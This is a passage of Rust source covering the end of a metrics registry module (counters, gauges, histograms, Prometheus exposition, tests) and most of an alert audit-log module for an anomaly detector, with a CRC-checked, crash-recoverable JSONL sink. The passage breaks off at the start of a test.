        self.0
            .as_ref()
            .map_or_else(HistogramSnapshot::default, |core| core.snapshot())
    }
}

/// Summary of one histogram: exact count/sum/min/max plus log-bucket
/// approximations of the p50/p90/p99 quantiles.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct HistogramSnapshot {
    /// Samples recorded.
    pub count: u64,
    /// Exact sum of all samples.
    pub sum: u64,
    /// Exact smallest sample (0 when empty).
    pub min: u64,
    /// Exact largest sample.
    pub max: u64,
    /// Exact arithmetic mean.
    pub mean: f64,
    /// Approximate median.
    pub p50: f64,
    /// Approximate 90th percentile.
    pub p90: f64,
    /// Approximate 99th percentile.
    pub p99: f64,
}

/// Point-in-time dump of a whole registry — the `--metrics-out` artifact.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct MetricsSnapshot {
    /// Counter values by name.
    pub counters: BTreeMap<String, u64>,
    /// Gauge values by name.
    pub gauges: BTreeMap<String, i64>,
    /// Histogram summaries by name.
    pub histograms: BTreeMap<String, HistogramSnapshot>,
}

impl MetricsSnapshot {
    /// Pretty JSON rendering.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("snapshot serializes")
    }

    /// Parses a snapshot back from JSON.
    pub fn from_json(json: &str) -> Result<MetricsSnapshot, serde_json::Error> {
        serde_json::from_str(json)
    }

    /// Value of a counter, if present.
    pub fn counter(&self, name: &str) -> Option<u64> {
        self.counters.get(name).copied()
    }

    /// Value of a gauge, if present.
    pub fn gauge(&self, name: &str) -> Option<i64> {
        self.gauges.get(name).copied()
    }
}

#[derive(Debug, Default)]
struct RegistryInner {
    counters: Mutex<BTreeMap<String, Arc<AtomicU64>>>,
    gauges: Mutex<BTreeMap<String, Arc<AtomicI64>>>,
    histograms: Mutex<BTreeMap<String, Arc<HistogramCore>>>,
}

/// The metrics registry. Cloning shares the underlying store; a disabled
/// registry ([`Registry::disabled`]) hands out no-op handles so
/// instrumented code pays a single branch per update.
///
/// `Default` is the *disabled* registry: instrumentation is opt-in, and
/// config structs embedding a registry stay inert unless one is provided.
#[derive(Debug, Clone, Default)]
pub struct Registry {
    inner: Option<Arc<RegistryInner>>,
}

impl Registry {
    /// A fresh, enabled registry.
    pub fn new() -> Registry {
        Registry {
            inner: Some(Arc::new(RegistryInner::default())),
        }
    }

    /// The no-op registry: every handle it hands out discards updates.
    pub fn disabled() -> Registry {
        Registry { inner: None }
    }

    /// False for the disabled registry.
    pub fn is_enabled(&self) -> bool {
        self.inner.is_some()
    }

    /// Registers (or retrieves) a counter. Takes the registration lock —
    /// acquire handles once, outside hot loops.
    pub fn counter(&self, name: &str) -> Counter {
        match &self.inner {
            None => Counter(None),
            Some(inner) => {
                let mut map = inner.counters.lock().expect("counter registry poisoned");
                let cell = map
                    .entry(name.to_string())
                    .or_insert_with(|| Arc::new(AtomicU64::new(0)));
                Counter(Some(Arc::clone(cell)))
            }
        }
    }

    /// Registers (or retrieves) a gauge.
    pub fn gauge(&self, name: &str) -> Gauge {
        match &self.inner {
            None => Gauge(None),
            Some(inner) => {
                let mut map = inner.gauges.lock().expect("gauge registry poisoned");
                let cell = map
                    .entry(name.to_string())
                    .or_insert_with(|| Arc::new(AtomicI64::new(0)));
                Gauge(Some(Arc::clone(cell)))
            }
        }
    }

    /// Registers (or retrieves) a histogram.
    pub fn histogram(&self, name: &str) -> Histogram {
        match &self.inner {
            None => Histogram(None),
            Some(inner) => {
                let mut map = inner
                    .histograms
                    .lock()
                    .expect("histogram registry poisoned");
                let core = map
                    .entry(name.to_string())
                    .or_insert_with(|| Arc::new(HistogramCore::new()));
                Histogram(Some(Arc::clone(core)))
            }
        }
    }

    /// Dumps every metric. Disabled registries return an empty snapshot.
    pub fn snapshot(&self) -> MetricsSnapshot {
        let Some(inner) = &self.inner else {
            return MetricsSnapshot::default();
        };
        MetricsSnapshot {
            counters: inner
                .counters
                .lock()
                .expect("counter registry poisoned")
                .iter()
                .map(|(k, v)| (k.clone(), v.load(Ordering::Relaxed)))
                .collect(),
            gauges: inner
                .gauges
                .lock()
                .expect("gauge registry poisoned")
                .iter()
                .map(|(k, v)| (k.clone(), v.load(Ordering::Relaxed)))
                .collect(),
            histograms: inner
                .histograms
                .lock()
                .expect("histogram registry poisoned")
                .iter()
                .map(|(k, v)| (k.clone(), v.snapshot()))
                .collect(),
        }
    }

    /// Prometheus-style text exposition: counters and gauges as scalar
    /// samples, histograms as proper `histogram` families with cumulative
    /// `_bucket{le="…"}` samples plus `_sum` / `_count`. The `le` bounds
    /// are the log₂ buckets' exact integer ceilings (`0`, `1`, `3`, `7`,
    /// …, `2^i - 1`), emitted up to the highest non-empty bucket and
    /// always closed with `le="+Inf"`. Metric names are sanitized (`.`
    /// and `-` → `_`).
    pub fn render_prometheus(&self) -> String {
        let snap = self.snapshot();
        let mut out = String::new();
        for (name, value) in &snap.counters {
            let n = sanitize(name);
            let _ = writeln!(out, "# TYPE {n} counter");
            let _ = writeln!(out, "{n} {value}");
        }
        for (name, value) in &snap.gauges {
            let n = sanitize(name);
            let _ = writeln!(out, "# TYPE {n} gauge");
            let _ = writeln!(out, "{n} {value}");
        }
        // Cumulative buckets need the raw per-bucket counts, which the
        // summary snapshot does not carry — read the cores directly.
        let Some(inner) = &self.inner else {
            return out;
        };
        let cores: Vec<(String, Arc<HistogramCore>)> = inner
            .histograms
            .lock()
            .expect("histogram registry poisoned")
            .iter()
            .map(|(k, v)| (k.clone(), Arc::clone(v)))
            .collect();
        for (name, core) in cores {
            let n = sanitize(&name);
            let _ = writeln!(out, "# TYPE {n} histogram");
            let buckets: Vec<u64> = core
                .buckets
                .iter()
                .map(|b| b.load(Ordering::Relaxed))
                .collect();
            // Using the bucket total for `+Inf`/`_count` keeps the family
            // internally consistent even if a sample lands concurrently
            // with this scrape.
            let total: u64 = buckets.iter().sum();
            let last = buckets.iter().rposition(|&c| c != 0).unwrap_or(0);
            let mut cumulative = 0u64;
            for (idx, &count) in buckets.iter().enumerate().take(last + 1) {
                cumulative += count;
                let _ = writeln!(
                    out,
                    "{n}_bucket{{le=\"{}\"}} {cumulative}",
                    bucket_ceiling(idx)
                );
            }
            let _ = writeln!(out, "{n}_bucket{{le=\"+Inf\"}} {total}");
            let _ = writeln!(out, "{n}_sum {}", core.sum.load(Ordering::Relaxed));
            let _ = writeln!(out, "{n}_count {total}");
        }
        out
    }
}

fn sanitize(name: &str) -> String {
    name.chars()
        .map(|c| match c {
            'a'..='z' | 'A'..='Z' | '0'..='9' | '_' | ':' => c,
            _ => '_',
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counters_accumulate_and_share_by_name() {
        let registry = Registry::new();
        let a = registry.counter("detect.windows_scored");
        let b = registry.counter("detect.windows_scored");
        a.inc();
        b.add(4);
        assert_eq!(a.get(), 5);
        assert_eq!(
            registry.snapshot().counter("detect.windows_scored"),
            Some(5)
        );
    }

    #[test]
    fn gauges_move_both_ways() {
        let registry = Registry::new();
        let g = registry.gauge("sessions.open");
        g.add(3);
        g.add(-1);
        assert_eq!(g.get(), 2);
        g.set(10);
        assert_eq!(registry.snapshot().gauges["sessions.open"], 10);
    }

    #[test]
    fn gauge_record_max_is_a_running_maximum() {
        let registry = Registry::new();
        let g = registry.gauge("beam.gap");
        g.record_max(5);
        g.record_max(3); // below the max: ignored
        assert_eq!(g.get(), 5);
        g.record_max(9);
        assert_eq!(g.get(), 9);
    }

    #[test]
    fn disabled_registry_discards_everything() {
        let registry = Registry::disabled();
        assert!(!registry.is_enabled());
        let c = registry.counter("x");
        c.add(100);
        assert_eq!(c.get(), 0);
        let h = registry.histogram("y");
        assert!(!h.is_enabled());
        h.record(1);
        assert_eq!(h.count(), 0);
        assert_eq!(registry.snapshot(), MetricsSnapshot::default());
    }

    #[test]
    fn clone_shares_storage() {
        let registry = Registry::new();
        let clone = registry.clone();
        clone.counter("n").inc();
        assert_eq!(registry.snapshot().counter("n"), Some(1));
    }

    #[test]
    fn histogram_summary_tracks_exact_extremes() {
        let registry = Registry::new();
        let h = registry.histogram("lat");
        for v in [10u64, 20, 30, 1000] {
            h.record(v);
        }
        let s = h.snapshot();
        assert_eq!(s.count, 4);
        assert_eq!(s.sum, 1060);
        assert_eq!(s.min, 10);
        assert_eq!(s.max, 1000);
        assert!((s.mean - 265.0).abs() < 1e-9);
    }

    #[test]
    fn histogram_quantiles_are_log_bucket_accurate() {
        let registry = Registry::new();
        let h = registry.histogram("lat");
        // 100 samples of 100ns, 10 of ~100µs: p50 must sit in the small
        // bucket, p99 in the large one.
        for _ in 0..100 {
            h.record(100);
        }
        for _ in 0..10 {
            h.record(100_000);
        }
        let s = h.snapshot();
        assert!(s.p50 >= 64.0 && s.p50 < 256.0, "p50 = {}", s.p50);
        assert!(s.p99 >= 65_536.0 && s.p99 < 262_144.0, "p99 = {}", s.p99);
        assert_eq!(s.max, 100_000);
    }

    #[test]
    fn bucket_index_boundaries() {
        assert_eq!(bucket_index(0), 0);
        assert_eq!(bucket_index(1), 1);
        assert_eq!(bucket_index(2), 2);
        assert_eq!(bucket_index(3), 2);
        assert_eq!(bucket_index(4), 3);
        assert_eq!(bucket_index(u64::MAX), 64);
        for idx in 1..BUCKETS {
            assert_eq!(bucket_index(bucket_floor(idx)), idx);
        }
    }

    #[test]
    fn snapshot_round_trips_through_json() {
        let registry = Registry::new();
        registry.counter("a.b").add(7);
        registry.gauge("g").set(-3);
        registry.histogram("h").record(42);
        let snap = registry.snapshot();
        let parsed = MetricsSnapshot::from_json(&snap.to_json()).unwrap();
        assert_eq!(parsed, snap);
    }

    #[test]
    fn prometheus_exposition_contains_all_families() {
        let registry = Registry::new();
        registry.counter("detect.windows_scored").add(2);
        registry.gauge("sessions.open").set(1);
        registry.histogram("detect.score_ns").record(500);
        let text = registry.render_prometheus();
        assert!(text.contains("# TYPE detect_windows_scored counter"));
        assert!(text.contains("detect_windows_scored 2"));
        assert!(text.contains("# TYPE sessions_open gauge"));
        assert!(text.contains("# TYPE detect_score_ns histogram"));
        // 500 lives in [256, 512): cumulative count 1 at le=511.
        assert!(text.contains("detect_score_ns_bucket{le=\"511\"} 1"));
        assert!(text.contains("detect_score_ns_bucket{le=\"+Inf\"} 1"));
        assert!(text.contains("detect_score_ns_sum 500"));
        assert!(text.contains("detect_score_ns_count 1"));
    }

    #[test]
    fn prometheus_histogram_buckets_are_cumulative() {
        let registry = Registry::new();
        let h = registry.histogram("lat");
        // Samples spread over four distinct buckets (plus the zero
        // bucket), with known per-bucket counts.
        h.record(0); // bucket 0 (le=0): 1
        for _ in 0..3 {
            h.record(1); // bucket 1 (le=1): 3
        }
        for _ in 0..2 {
            h.record(300); // bucket 9 (le=511): 2
        }
        h.record(100_000); // bucket 17 (le=131071): 1
        let text = registry.render_prometheus();

        // Parse every `lat_bucket` sample in emission order.
        let mut bounds = Vec::new();
        let mut counts = Vec::new();
        for line in text.lines() {
            if let Some(rest) = line.strip_prefix("lat_bucket{le=\"") {
                let (bound, count) = rest.split_once("\"} ").unwrap();
                bounds.push(bound.to_string());
                counts.push(count.parse::<u64>().unwrap());
            }
        }
        // Cumulativity: counts never decrease, and +Inf equals the total.
        assert!(counts.windows(2).all(|w| w[0] <= w[1]), "{counts:?}");
        assert_eq!(bounds.last().map(String::as_str), Some("+Inf"));
        assert_eq!(counts.last(), Some(&7));
        // Spot-check the known cumulative steps.
        let at = |b: &str| {
            counts[bounds
                .iter()
                .position(|x| x == b)
                .unwrap_or_else(|| panic!("bound {b} missing in {bounds:?}"))]
        };
        assert_eq!(at("0"), 1);
        assert_eq!(at("1"), 4);
        assert_eq!(at("511"), 6);
        assert_eq!(at("131071"), 7);
        // Empty buckets between populated ones are still emitted (with the
        // running cumulative), so the family has no holes below the top.
        assert_eq!(at("255"), 4);
    }

    #[test]
    fn empty_histogram_snapshot_is_zeroed() {
        let registry = Registry::new();
        let h = registry.histogram("empty");
        let s = h.snapshot();
        assert_eq!(s, HistogramSnapshot::default());
    }
}
