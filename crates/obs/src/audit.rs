//! Structured alert audit log.
//!
//! Every non-Normal detection serializes to one JSONL line — an
//! [`AuditRecord`] — through a pluggable [`AuditSink`]. Records are
//! sequence-numbered (not timestamped, so replays are byte-stable),
//! carry the session id, flag, window, score and threshold, and — for
//! DataLeak alerts — the DDG label and block id (`bid`) connecting the
//! alert to its data source, as the paper's §V-C alerts do.
//!
//! [`AuditLog`] assigns the sequence numbers; sinks decide persistence:
//! [`NullAuditSink`] (off), [`MemoryAuditSink`] (tests and report
//! printing), [`JsonlAuditSink`] (any `io::Write`, one line per record),
//! [`DurableAuditSink`] (crash-safe length-prefixed + CRC-checked JSONL
//! file with torn-tail recovery and size-based rotation).

use crate::forensics::ForensicReport;
use crate::registry::{Counter, Gauge, Registry};
use serde::{de_field, de_field_opt, Content, DeError, Deserialize, Serialize};
use std::fs::{File, OpenOptions};
use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// One audit-trail entry: a replayable, attributable alert.
#[derive(Debug, Clone, PartialEq)]
pub struct AuditRecord {
    /// Monotonic sequence number, assigned by [`AuditLog`].
    pub seq: u64,
    /// Application id the profiled program is registered under in a
    /// multi-app deployment; empty for single-app detectors.
    pub app: String,
    /// Session (connection) the window came from; empty when unknown.
    pub session: String,
    /// Profile epoch (hot-swap generation) that scored the window; 0 for
    /// detectors built outside a registry.
    pub epoch: u64,
    /// Flag name as the engine renders it (`DATA-LEAK`, `ANOMALOUS`,
    /// `OUT-OF-CONTEXT`).
    pub flag: String,
    /// The call names of the flagged window.
    pub window: Vec<String>,
    /// `log P(window | λ)`.
    pub log_likelihood: f64,
    /// Threshold in force when the window was scored.
    pub threshold: f64,
    /// Human-readable detail from the engine.
    pub detail: String,
    /// Scoring kernel that produced `log_likelihood` (`dense`, `sparse`,
    /// or `beam`) — beam-pruned scores are approximate, so forensics need
    /// to know which path flagged the window.
    pub kernel: String,
    /// The DDG-labeled output call (`printf_Q6`) for DataLeak alerts.
    pub label: Option<String>,
    /// The DDG block id parsed from the label (`6` for `printf_Q6`) —
    /// the pointer back to the data source.
    pub bid: Option<String>,
    /// Forensic evidence (score attribution + flight-recorder tail),
    /// present when the scoring session had its flight recorder enabled.
    /// Omitted from the JSONL entirely when `None`, and tolerated as
    /// missing on parse, so records written before this field existed
    /// still round-trip.
    pub forensics: Option<ForensicReport>,
    /// Scoring tier the alarming window was scored under (`full`,
    /// `beam`, `spot`) when the runtime's risk-budget tier ladder was
    /// armed. Omitted/lenient like `forensics`.
    pub tier: Option<String>,
    /// Why the alarm escalated its session back to full scoring, when a
    /// degraded-tier window alarmed or scored inside the gap bound.
    pub escalation: Option<String>,
    /// Cumulative beam-pruning score-error bound at emission, in
    /// integral micro-nats — the provenance that bounds how far
    /// `log_likelihood` can sit above the exact score.
    pub gap_bound_micronats: Option<i64>,
}

// Serialization is hand-written (the derive stand-in has no
// `#[serde(default)]`): `forensics` and the tier-provenance fields are
// emitted only when present and parsed leniently, every other field
// exactly as the derive would.
impl Serialize for AuditRecord {
    fn serialize(&self) -> Content {
        let mut map: Vec<(Content, Content)> = Vec::with_capacity(16);
        let mut push = |name: &str, value: Content| {
            map.push((Content::Str(name.to_string()), value));
        };
        push("seq", self.seq.serialize());
        push("app", self.app.serialize());
        push("session", self.session.serialize());
        push("epoch", self.epoch.serialize());
        push("flag", self.flag.serialize());
        push("window", self.window.serialize());
        push("log_likelihood", self.log_likelihood.serialize());
        push("threshold", self.threshold.serialize());
        push("detail", self.detail.serialize());
        push("kernel", self.kernel.serialize());
        push("label", self.label.serialize());
        push("bid", self.bid.serialize());
        if let Some(forensics) = &self.forensics {
            push("forensics", forensics.serialize());
        }
        if let Some(tier) = &self.tier {
            push("tier", tier.serialize());
        }
        if let Some(escalation) = &self.escalation {
            push("escalation", escalation.serialize());
        }
        if let Some(gap) = &self.gap_bound_micronats {
            push("gap_bound_micronats", gap.serialize());
        }
        Content::Map(map)
    }
}

impl Deserialize for AuditRecord {
    fn deserialize(v: &Content) -> Result<AuditRecord, DeError> {
        let map = v
            .as_map()
            .ok_or_else(|| DeError(format!("expected map for AuditRecord, found {}", v.kind())))?;
        Ok(AuditRecord {
            seq: de_field(map, "seq")?,
            app: de_field(map, "app")?,
            session: de_field(map, "session")?,
            epoch: de_field(map, "epoch")?,
            flag: de_field(map, "flag")?,
            window: de_field(map, "window")?,
            log_likelihood: de_field(map, "log_likelihood")?,
            threshold: de_field(map, "threshold")?,
            detail: de_field(map, "detail")?,
            kernel: de_field(map, "kernel")?,
            label: de_field(map, "label")?,
            bid: de_field(map, "bid")?,
            forensics: de_field_opt(map, "forensics")?,
            tier: de_field_opt(map, "tier")?,
            escalation: de_field_opt(map, "escalation")?,
            gap_bound_micronats: de_field_opt(map, "gap_bound_micronats")?,
        })
    }
}

impl AuditRecord {
    /// Serializes to one compact JSONL line (no trailing newline).
    pub fn to_jsonl(&self) -> String {
        serde_json::to_string(self).expect("audit record serializes")
    }

    /// Parses a record back from a JSONL line.
    pub fn from_jsonl(line: &str) -> Result<AuditRecord, serde_json::Error> {
        serde_json::from_str(line.trim())
    }
}

/// Receives sequence-numbered audit records.
pub trait AuditSink: Send + Sync {
    /// Called once per non-Normal detection.
    fn append(&self, record: &AuditRecord);
}

/// Discards every record.
#[derive(Debug, Default)]
pub struct NullAuditSink;

impl AuditSink for NullAuditSink {
    fn append(&self, _record: &AuditRecord) {}
}

/// Accumulates records in memory (tests, report printing).
#[derive(Debug, Default)]
pub struct MemoryAuditSink {
    records: Mutex<Vec<AuditRecord>>,
}

impl MemoryAuditSink {
    /// An empty sink.
    pub fn new() -> MemoryAuditSink {
        MemoryAuditSink::default()
    }

    /// All records appended so far, in order.
    pub fn records(&self) -> Vec<AuditRecord> {
        self.records.lock().expect("audit sink poisoned").clone()
    }

    /// Number of records.
    pub fn len(&self) -> usize {
        self.records.lock().expect("audit sink poisoned").len()
    }

    /// True when nothing has been recorded.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl AuditSink for MemoryAuditSink {
    fn append(&self, record: &AuditRecord) {
        self.records
            .lock()
            .expect("audit sink poisoned")
            .push(record.clone());
    }
}

/// Streams records as JSONL to any writer (a file, a pipe, a Vec).
#[derive(Debug)]
pub struct JsonlAuditSink<W: Write + Send> {
    writer: Mutex<W>,
}

impl<W: Write + Send> JsonlAuditSink<W> {
    /// Wraps a writer; each record becomes one `\n`-terminated line.
    pub fn new(writer: W) -> JsonlAuditSink<W> {
        JsonlAuditSink {
            writer: Mutex::new(writer),
        }
    }

    /// Unwraps the writer (flushing is the caller's business).
    pub fn into_inner(self) -> W {
        self.writer.into_inner().expect("audit writer poisoned")
    }
}

impl<W: Write + Send> AuditSink for JsonlAuditSink<W> {
    fn append(&self, record: &AuditRecord) {
        let mut writer = self.writer.lock().expect("audit writer poisoned");
        // Audit writes are best-effort: a full disk must not take the
        // detector down with it.
        let _ = writeln!(writer, "{}", record.to_jsonl());
    }
}

/// CRC-32 (IEEE 802.3, the zlib/PNG polynomial) over `bytes`.
///
/// Table-driven, built lazily once; no external dependencies. Used by the
/// durable audit log and by profile envelopes to detect torn writes and
/// bit rot before corrupt state reaches the detector.
pub fn crc32(bytes: &[u8]) -> u32 {
    use std::sync::OnceLock;
    static TABLE: OnceLock<[u32; 256]> = OnceLock::new();
    let table = TABLE.get_or_init(|| {
        let mut table = [0u32; 256];
        for (i, slot) in table.iter_mut().enumerate() {
            let mut c = i as u32;
            for _ in 0..8 {
                c = if c & 1 != 0 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
            *slot = c;
        }
        table
    });
    let mut crc = 0xFFFF_FFFFu32;
    for &b in bytes {
        crc = table[((crc ^ b as u32) & 0xFF) as usize] ^ (crc >> 8);
    }
    crc ^ 0xFFFF_FFFF
}

/// Configuration for [`DurableAuditSink`]: when to rotate and how many
/// rotated files to keep.
#[derive(Debug, Clone, Copy)]
pub struct WalConfig {
    /// Rotate once the active file exceeds this many bytes (post-append
    /// check, so one record may overshoot). Default 1 MiB.
    pub max_file_bytes: u64,
    /// Rotated files kept as `<path>.1` (newest) … `<path>.<keep>`
    /// (oldest); older rotations are deleted. Default 3.
    pub keep: usize,
}

impl Default for WalConfig {
    fn default() -> WalConfig {
        WalConfig {
            max_file_bytes: 1 << 20,
            keep: 3,
        }
    }
}

/// What [`DurableAuditSink::open`]'s recovery scan found.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RecoveryReport {
    /// Records in the valid prefix (all preserved).
    pub valid_records: u64,
    /// Bytes of torn/corrupt tail truncated away.
    pub truncated_bytes: u64,
    /// True when a torn tail was detected (and truncated).
    pub torn: bool,
}

/// Byte length of the `llllllll cccccccc ` frame prefix: 8 hex digits of
/// payload length, a space, 8 hex digits of CRC-32, a space.
const FRAME_PREFIX: usize = 18;

/// Frames one JSONL payload as a length-prefixed, CRC-checked line.
fn frame_record(json: &str) -> String {
    format!(
        "{:08x} {:08x} {}\n",
        json.len(),
        crc32(json.as_bytes()),
        json
    )
}

/// Validates one framed line (without its trailing `\n`). Returns the
/// payload on success.
fn unframe_line(line: &str) -> Option<&str> {
    let bytes = line.as_bytes();
    if bytes.len() < FRAME_PREFIX || bytes[8] != b' ' || bytes[17] != b' ' {
        return None;
    }
    let len = u32::from_str_radix(&line[0..8], 16).ok()? as usize;
    let crc = u32::from_str_radix(&line[9..17], 16).ok()?;
    let payload = &line[FRAME_PREFIX..];
    if payload.len() != len || crc32(payload.as_bytes()) != crc {
        return None;
    }
    Some(payload)
}

/// A crash-safe on-disk audit sink.
///
/// Each record is written as one line: an 8-hex-digit payload length, an
/// 8-hex-digit CRC-32 of the payload, then the JSONL payload. On
/// [`open`](DurableAuditSink::open) a sequential recovery scan validates
/// the file front-to-back and truncates at the first frame that is short,
/// fails its CRC, or is missing its terminating newline — a torn tail
/// from a crash mid-write can therefore never corrupt later reads, and no
/// record before the tear is lost. Files rotate at
/// [`WalConfig::max_file_bytes`] to `<path>.1`, `<path>.2`, ….
///
/// Appends are best-effort, matching [`JsonlAuditSink`]: I/O errors are
/// counted ([`write_errors`](DurableAuditSink::write_errors)) rather than
/// propagated, so a full disk degrades auditing without taking the
/// detector down.
#[derive(Debug)]
pub struct DurableAuditSink {
    path: PathBuf,
    config: WalConfig,
    state: Mutex<DurableState>,
    write_errors: AtomicU64,
    rotations: AtomicU64,
    m_rotations: Counter,
    m_wal_bytes: Gauge,
    m_write_errors: Counter,
}

#[derive(Debug)]
struct DurableState {
    writer: BufWriter<File>,
    bytes: u64,
}

impl DurableAuditSink {
    /// Opens (creating if absent) the audit file at `path` with default
    /// rotation config, after running the recovery scan.
    pub fn open(path: &Path) -> std::io::Result<(DurableAuditSink, RecoveryReport)> {
        DurableAuditSink::open_with(path, WalConfig::default())
    }

    /// [`open`](DurableAuditSink::open) with explicit [`WalConfig`].
    pub fn open_with(
        path: &Path,
        config: WalConfig,
    ) -> std::io::Result<(DurableAuditSink, RecoveryReport)> {
        let report = DurableAuditSink::recover(path)?;
        let file = OpenOptions::new().create(true).append(true).open(path)?;
        let bytes = file.metadata()?.len();
        let sink = DurableAuditSink {
            path: path.to_path_buf(),
            config,
            state: Mutex::new(DurableState {
                writer: BufWriter::new(file),
                bytes,
            }),
            write_errors: AtomicU64::new(0),
            rotations: AtomicU64::new(0),
            m_rotations: Counter::noop(),
            m_wal_bytes: Gauge::noop(),
            m_write_errors: Counter::noop(),
        };
        Ok((sink, report))
    }

    /// Publishes the sink's rotation/size/error accounting to `registry`:
    /// `audit.rotations` and `audit.write_errors` counters, and an
    /// `audit.wal_bytes` gauge tracking the active file's size. The gauge
    /// is seeded with the recovered file's current size.
    pub fn with_registry(mut self, registry: &Registry) -> DurableAuditSink {
        self.m_rotations = registry.counter("audit.rotations");
        self.m_wal_bytes = registry.gauge("audit.wal_bytes");
        self.m_write_errors = registry.counter("audit.write_errors");
        let bytes = self.state.lock().expect("audit state poisoned").bytes;
        self.m_wal_bytes.set(bytes as i64);
        self
    }

    /// The recovery scan: walks the frames front-to-back and truncates the
    /// file at the first invalid one. Returns what it found; a missing
    /// file is an empty, un-torn log.
    pub fn recover(path: &Path) -> std::io::Result<RecoveryReport> {
        let data = match std::fs::read(path) {
            Ok(data) => data,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return Ok(RecoveryReport::default())
            }
            Err(e) => return Err(e),
        };
        let (valid_records, valid_bytes) = scan_valid_prefix(&data);
        if valid_bytes < data.len() {
            let file = OpenOptions::new().write(true).open(path)?;
            file.set_len(valid_bytes as u64)?;
            Ok(RecoveryReport {
                valid_records,
                truncated_bytes: (data.len() - valid_bytes) as u64,
                torn: true,
            })
        } else {
            Ok(RecoveryReport {
                valid_records,
                truncated_bytes: 0,
                torn: false,
            })
        }
    }

    /// Reads every valid record from an audit file (stops at the first
    /// invalid frame without modifying the file).
    pub fn read_records(path: &Path) -> std::io::Result<Vec<AuditRecord>> {
        let data = std::fs::read(path)?;
        let text = String::from_utf8_lossy(&data);
        let mut records = Vec::new();
        for line in text.lines() {
            let Some(payload) = unframe_line(line) else {
                break;
            };
            let Ok(record) = AuditRecord::from_jsonl(payload) else {
                break;
            };
            records.push(record);
        }
        Ok(records)
    }

    /// Appends that failed with an I/O error (the records were dropped).
    pub fn write_errors(&self) -> u64 {
        self.write_errors.load(Ordering::Relaxed)
    }

    /// Size-based rotations performed so far.
    pub fn rotations(&self) -> u64 {
        self.rotations.load(Ordering::Relaxed)
    }

    /// The active file path.
    pub fn path(&self) -> &Path {
        &self.path
    }

    fn rotate(&self, state: &mut DurableState) -> std::io::Result<()> {
        state.writer.flush()?;
        if self.config.keep > 0 {
            let _ = std::fs::remove_file(rotated_path(&self.path, self.config.keep));
        }
        for i in (1..self.config.keep).rev() {
            let from = rotated_path(&self.path, i);
            let to = rotated_path(&self.path, i + 1);
            if from.exists() {
                std::fs::rename(&from, &to)?;
            }
        }
        if self.config.keep > 0 {
            std::fs::rename(&self.path, rotated_path(&self.path, 1))?;
        } else {
            std::fs::remove_file(&self.path)?;
        }
        let file = OpenOptions::new()
            .create(true)
            .append(true)
            .open(&self.path)?;
        state.writer = BufWriter::new(file);
        state.bytes = 0;
        self.rotations.fetch_add(1, Ordering::Relaxed);
        self.m_rotations.inc();
        self.m_wal_bytes.set(0);
        Ok(())
    }
}

/// `<path>.N` rotation name (`audit.jsonl` → `audit.jsonl.1`).
fn rotated_path(path: &Path, n: usize) -> PathBuf {
    let mut os = path.as_os_str().to_os_string();
    os.push(format!(".{n}"));
    PathBuf::from(os)
}

/// Returns `(records, bytes)` of the longest valid frame prefix of `data`.
fn scan_valid_prefix(data: &[u8]) -> (u64, usize) {
    let mut offset = 0usize;
    let mut records = 0u64;
    while offset < data.len() {
        let rest = &data[offset..];
        let Some(nl) = rest.iter().position(|&b| b == b'\n') else {
            break; // no terminating newline: torn final frame
        };
        let Ok(line) = std::str::from_utf8(&rest[..nl]) else {
            break;
        };
        if unframe_line(line).is_none() {
            break;
        }
        offset += nl + 1;
        records += 1;
    }
    (records, offset)
}

impl AuditSink for DurableAuditSink {
    fn append(&self, record: &AuditRecord) {
        let framed = frame_record(&record.to_jsonl());
        let mut state = self.state.lock().expect("audit state poisoned");
        // Best-effort, like JsonlAuditSink — but each frame is flushed so
        // a crash can tear at most the final record, which the recovery
        // scan then truncates.
        let ok = state
            .writer
            .write_all(framed.as_bytes())
            .and_then(|()| state.writer.flush())
            .is_ok();
        if !ok {
            self.write_errors.fetch_add(1, Ordering::Relaxed);
            self.m_write_errors.inc();
            return;
        }
        state.bytes += framed.len() as u64;
        self.m_wal_bytes.set(state.bytes as i64);
        if state.bytes > self.config.max_file_bytes {
            if let Err(_e) = self.rotate(&mut state) {
                self.write_errors.fetch_add(1, Ordering::Relaxed);
                self.m_write_errors.inc();
            }
        }
    }
}

/// The audit log: assigns sequence numbers and fans records to a sink.
pub struct AuditLog {
    seq: AtomicU64,
    sink: Arc<dyn AuditSink>,
}

impl std::fmt::Debug for AuditLog {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AuditLog")
            .field("seq", &self.seq.load(Ordering::Relaxed))
            .finish()
    }
}

impl AuditLog {
    /// A log writing through `sink`.
    pub fn new(sink: Arc<dyn AuditSink>) -> AuditLog {
        AuditLog {
            seq: AtomicU64::new(0),
            sink,
        }
    }

    /// A log that discards everything (sequence numbers still advance).
    pub fn disabled() -> AuditLog {
        AuditLog::new(Arc::new(NullAuditSink))
    }

    /// Stamps `record` with the next sequence number, appends it, and
    /// returns the assigned number.
    pub fn record(&self, mut record: AuditRecord) -> u64 {
        let seq = self.seq.fetch_add(1, Ordering::Relaxed);
        record.seq = seq;
        self.sink.append(&record);
        seq
    }

    /// Records issued so far.
    pub fn len(&self) -> u64 {
        self.seq.load(Ordering::Relaxed)
    }

    /// True before the first record.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn leak_record() -> AuditRecord {
        AuditRecord {
            seq: 0,
            app: "order-portal".into(),
            session: "conn-7".into(),
            epoch: 1,
            flag: "DATA-LEAK".into(),
            window: vec!["PQexec".into(), "printf_Q6".into()],
            log_likelihood: -42.5,
            threshold: -30.0,
            detail: "anomalous sequence contains labeled output `printf_Q6`".into(),
            kernel: "dense".into(),
            label: Some("printf_Q6".into()),
            bid: Some("6".into()),
            forensics: None,
            tier: None,
            escalation: None,
            gap_bound_micronats: None,
        }
    }

    #[test]
    fn records_round_trip_through_jsonl() {
        let record = leak_record();
